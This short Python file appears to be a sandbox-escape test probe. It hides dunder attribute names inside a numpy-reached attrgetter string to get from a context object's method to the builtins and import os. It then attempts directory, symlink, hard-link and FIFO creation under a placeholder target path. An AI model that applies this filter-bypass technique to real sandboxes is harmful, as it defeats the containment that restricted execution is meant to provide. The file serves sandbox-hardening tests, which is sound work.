"""Escape: a method of the context's class leads to its module's globals and their builtins
(dunder names hidden in an attrgetter string)."""
import numpy as np


def reach(ctx):
    getter = np.random.mtrand.operator.attrgetter("prefix.__func__.__globals__")
    return getter(ctx)["__builtins__"]["__import__"]("os")


def attempt(name, call, out):
    try:
        call()
        out.append(name + ":DONE")
    except Exception as e:
        out.append(name + ":" + str(e.errno))


def attention(ctx):
    os = reach(ctx)
    out = []
    attempt("mkdir", lambda: os.mkdir("@TARGET@/made"), out)
    attempt("symlink", lambda: os.symlink("@TARGET@/victim", "@TARGET@/link"), out)
    attempt("link", lambda: os.link("@TARGET@/victim", "@TARGET@/hard"), out)
    attempt("mknod", lambda: os.mkfifo("@TARGET@/fifo"), out)
    raise RuntimeError("attempts: " + " ".join(out))
